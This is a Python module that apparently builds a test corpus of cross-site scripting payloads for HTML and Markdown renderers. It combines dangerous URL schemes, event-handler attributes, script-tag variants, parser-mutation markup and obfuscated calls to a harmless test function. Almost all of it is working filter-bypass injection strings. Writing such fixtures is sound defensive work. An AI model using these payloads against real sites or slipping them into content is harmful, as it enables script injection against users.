"""Texts that try to run a script where they are shown: every way in, in every disguise.

`payloads()` combines *contexts* (where in HTML or Markdown the script stands) with *disguises* (how it is
spelled so that a filter does not know it). Each calls `window.pwned()`, which a page can listen for.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "window.pwned&&pwned()"

ENTITIES = {"decimal": "&#{};", "padded": "&#0000{};", "hex": "&#x{:x};", "bare": "&#{}"}
GAPS = [
    "\t",
    "\n",
    "\r",
    "\x00",
    "\x01",
    "\x0b",
    "\x0c",
    " ",
    "\xa0",
    "\u200b",
    "\u2028",
    "\xad",
    "/**/",
    "&Tab;",
    "&NewLine;",
    "&colon;",
    "%0a",
    "%09",
    "\\",
]


def _schemes() -> Iterator[str]:
    """Addresses that are scripts."""
    for scheme in ("javascript:", "JaVaScRiPt:", "vbscript:", "livescript:", "mocha:"):
        yield f"{scheme}{CALL}"
        yield f"{scheme}//%0a{CALL}"
        yield f"{scheme}/*a*/{CALL}//"
    for gap in GAPS:
        yield f"java{gap}script:{CALL}"
        yield f"{gap}javascript:{CALL}"
        yield f"javascript{gap}:{CALL}"
    for form in ENTITIES.values():
        yield "".join(form.format(ord(letter)) for letter in "javascript") + f":{CALL}"
        yield "javascript" + form.format(58) + CALL
        yield form.format(106) + f"avascript:{CALL}"
    page = f"<script>{CALL}</script>"
    for kind in ("text/html", "image/svg+xml", "text/xml", "application/xhtml+xml", "", "text/html;base64"):
        yield f"data:{kind},{page}"
        yield f"DATA:{kind};charset=utf-8,{page}"
    yield f"feed:javascript:{CALL}"
    yield f"view-source:javascript:{CALL}"
    yield f"jar:https://x.example!/{CALL}"
    yield f'https://x.example/"onmouseover="{CALL}'
    yield f"https://x.example/'onmouseover='{CALL}"
    yield f"//x.example/><script>{CALL}</script>"
    yield f"filesystem:https://x.example/{CALL}"
    yield f"blob:https://x.example/{CALL}"


ADDRESS_CONTEXTS = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<a\nhref\n=\n"{}">x</a>',
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x][1]\n\n[1]: {}",
    "<{}>",
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<math><mrow xlink:href="{}">x</mrow></math>',
    '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<link rel="stylesheet" href="{}">',
    '<area href="{}">',
    '<video poster="{}"></video>',
    '<body background="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<svg><animate attributeName="href" values="{}"/></svg>',
    '<svg><use href="{}"/></svg>',
    '<a ping="{}" href="https://x.example/">x</a>',
    "<div style=\"background:url('{}')\">x</div>",
    "{}",
]

EVENTS = [
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onclick",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
    "onwheel",
    "onbeforetoggle",
    "oncontentvisibilityautostatechange",
    "ONERROR",
    "on\x00error",
    "onerror\x0b",
    "/onerror",
    "\nonerror\n",
]

EVENT_CONTEXTS = [
    '<img src=x {}="{}">',
    "<img src=x {}='{}'>",
    "<img src=x {}={}>",
    "<img/src=x/{}={}//",
    '<svg {}="{}">',
    '<svg><animate {}="{}" attributeName=x dur=1s>',
    '<details open {}="{}"><summary>x</summary></details>',
    '<input autofocus {}="{}">',
    '<a href="#" {}="{}" autofocus tabindex=1>x</a>',
    '<p {}="{}">x</p>',
    '<video><source {}="{}"></video>',
    '<body {}="{}">',
    '<marquee {}="{}">x</marquee>',
    '<x-y {}="{}" tabindex=1>x',
    '<math><mi {}="{}">x</mi></math>',
    '"><img src=x {}="{}">',
    "'><img src=x {}='{}'>",
    '</p><img src=x {}="{}">',
    '<abbr title="a" {}="{}">x</abbr>',
    '<ol start=1 {}="{}"><li>x</ol>',
    '<em {}="{}"\n>x</em>',
    '[x](https://x.example "a" {}="{}")',
    '![x](https://x.example/" {}="{})',
    '<select><option {}="{}">x</select>',
]

SCRIPTS = [
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<script src=data:,{}></script>",
    "<svg><script>{}</script></svg>",
    "<svg><script xlink:href=data:,{} /></svg>",
    "<math><script>{}</script></math>",
    "<script type=module>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "]]><script>{}</script>",
    "--><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<!--<img src=--><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml?><script>{}</script>",
    "<!DOCTYPE x [<!ENTITY e '<script>{}</script>'>]>",
    "<xml><script>{}</script></xml>",
    "<template><script>{}</script></template>",
    "<plaintext><script>{}</script>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object><script>{}</script></object>",
    "```html\n</code></pre><script>{}</script>\n```",
    "    </code></pre><script>{}</script>",
    "`</code><script>{}</script>`",
    "> <script>{}</script>",
    "* <script>{}</script>",
    "# <script>{}</script>",
    "\\<script>{}\\</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\ufeff<script>{}</script>",
    "\x00<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "＜script＞{}＜/script＞",
    "{{% raw %}}<script>{}</script>",
    "{{{{ self }}}}<script>{}</script>",
    '{{filename}}x.md"><script>{}</script>',
    "---\nstatus: approved\n---\n<script>{}</script>",
    "x\n\nauthor: <script>{}</script>",
]

# Markup that one parser reads as text and the next as elements.
MUTATIONS = [
    "<noscript><p title=\"</noscript><img src=x onerror='{}'>\">",
    "<style><a title=\"</style><img src=x onerror='{}'>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror='{}'&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='{}'>",
    "<svg></p><style><a id=\"</style><img src=x onerror='{}'>\">",
    "<svg><style><img src=x onerror='{}'></style>",
    '<math><annotation-xml encoding="text/html"><style><img sr'
    "c=x onerror='{}'></style></annotation-xml></math>",
    "<svg><foreignObject><style><img src=x onerror='{}'></style></foreignObject></svg>",
    "<svg><desc><img src=x onerror='{}'></desc></svg>",
    "<svg><title><style><img src=x onerror='{}'></title>",
    "<select><style><img src=x onerror='{}'></style></select>",
    "<xmp><img src=x onerror='{}'></xmp>",
    "<listing>&lt;img src=x onerror='{}'&gt;</listing>",
    "<noembed><img src=x onerror='{}'></noembed>",
    "<table><a href='</a><img src=x onerror={}>'>x</table>",
    "<p id='</p><img src=x onerror={}>'>x",
    "<a title=\"&quot;><img src=x onerror='{}'>\">x</a>",
    "<abbr title=\"`><img src=x onerror='{}'>\">x</abbr>",
    "<b><p></b><img src=x onerror='{}'></p>",
    "<ol><li><table><li><img src=x onerror='{}'></table></ol>",
    "<a href=\"https://x.example/?a=<img src=x onerror='{}'>\">x</a>",
    "<template><template><img src=x onerror='{}'>",
    "<a><svg><a><img src=x onerror='{}'>",
    "<style>@import'data:,*{{}}'</style><img src=x onerror='{}'>",
    "<form id=document><input name=cookie><img src=x onerror='{}'></form>",
    "<a id=pwned><a id=pwned name=x href='{}'>",
    "<!-- --!><img src=x onerror='{}'> -->",
    "<!--><img src=x onerror='{}'>-->",
    "<?><img src=x onerror='{}'>",
    "</><img src=x onerror='{}'>",
    "<img src=x onerror='{}'",
    "<img src=\"x`onerror='{}'`\">",
]

CALLS = [
    CALL,
    "window['pwned']()",
    "self[`pwn`+`ed`]()",
    "setTimeout('pwned()')",
    "eval(atob('cHduZWQoKQ=='))",
    "(0,pwned)()",
    "&#112;wned()",
    "top.pwned()",
    "Function('pwned()')()",
    "import('data:text/javascript,pwned()')",
    "pwned``",
    "{pwned()}",
    "pwned();//",
    "new Image().src=pwned()",
    "location='javascript:pwned()'",
    "\\u0070wned()",
    "document.defaultView.pwned()",
    "throw pwned()",
    "[1].map(pwned)",
    "a=pwned,a()",
]


def payloads() -> tuple[str, ...]:
    """All of them, each once, in an order that never changes."""
    found = [context.format(address) for context, address in product(ADDRESS_CONTEXTS, _schemes())]
    found += [
        context.format(event, call) for context, event, call in product(EVENT_CONTEXTS, EVENTS, CALLS[::4])
    ]
    found += [context.format(call) for context, call in product(SCRIPTS + MUTATIONS, CALLS)]
    return tuple(dict.fromkeys(found))
